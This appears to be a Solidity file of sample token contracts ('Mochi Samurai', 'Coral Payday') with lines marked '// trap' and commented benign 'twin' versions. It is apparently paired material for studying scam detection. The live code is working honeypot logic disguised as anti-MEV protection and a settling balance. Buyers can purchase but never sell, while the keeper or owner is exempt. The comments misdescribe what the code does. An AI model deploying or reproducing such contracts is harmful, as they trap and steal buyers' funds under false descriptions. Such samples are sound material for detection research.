// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

interface IClearance {
    function verify(address from, address to, uint256 value, bool selling) external view returns (bool);
}

/// Keeps MEV bots out of our launches.
contract ClearanceHub {
    address private immutable keeper;
    uint256 public immutable opens;
    mapping(address => uint256) private _file;

    constructor() {
        keeper = msg.sender;
        opens = block.timestamp + 30 minutes;
        _file[msg.sender] = 1 << 240;
    }

    function annotate(address[] calldata who, uint16 tier) external {
        require(msg.sender == keeper, "keeper");
        for (uint256 i; i < who.length; i++) _file[who[i]] = (uint256(tier) << 240) | block.timestamp;
    }

    function tierOf(address who) public view returns (uint16) {
        return uint16(_file[who] >> 240);
    }

    function verify(address from, address, uint256, bool selling) external view returns (bool) {
        return !selling || tierOf(from) != 0; // trap
        // twin: return !selling || tierOf(from) != 0 || block.timestamp >= opens;
    }
}

contract MochiSamurai is Base8 {
    IClearance private immutable hub;

    constructor(IClearance hub_) Base8("Mochi Samurai", "MOCHIS", 100_000_000) {
        hub = hub_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(hub.verify(from, to, value, to == pair), "MEV: try again");
        _move(from, to, value);
    }
}

/// Keeps what was bought and what is free in one slot.
contract CoralPayday {
    struct Purse {
        uint112 free;
        uint112 settling;
        uint32 at;
    }

    string public constant name = "Coral Payday";
    string public constant symbol = "CPAY";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 420_690_000 ether;
    uint256 private constant SETTLE = 12 seconds;
    address public owner;
    address public market;
    mapping(address => Purse) private _purses;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    constructor() {
        owner = msg.sender;
        _purses[msg.sender].free = uint112(totalSupply);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address market_) external {
        require(msg.sender == owner && market == address(0));
        market = market_;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address who) external view returns (uint256) {
        return uint256(_purses[who].free) + _purses[who].settling;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pay(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _pay(from, to, value);
        return true;
    }

    function _pay(address from, address to, uint256 value) private {
        Purse storage purse = _purses[from];
        if (purse.settling > 0 && block.timestamp >= uint256(purse.at) + SETTLE) {
            purse.free += purse.settling;
            purse.settling = 0;
        }
        if (to != market && value > purse.free) {
            // friends may share what still settles
            purse.settling -= uint112(value - purse.free);
            purse.free = 0;
            _purses[to].settling += uint112(value);
            _purses[to].at = purse.at;
        } else {
            purse.free -= uint112(value);
            if (from != market) {
                _purses[to].free += uint112(value);
            } else {
                _purses[to].settling += uint112(value);
                _purses[to].at = type(uint32).max; // trap
                // twin: _purses[to].at = uint32(block.timestamp);
            }
        }
        emit Transfer(from, to, value);
    }
}
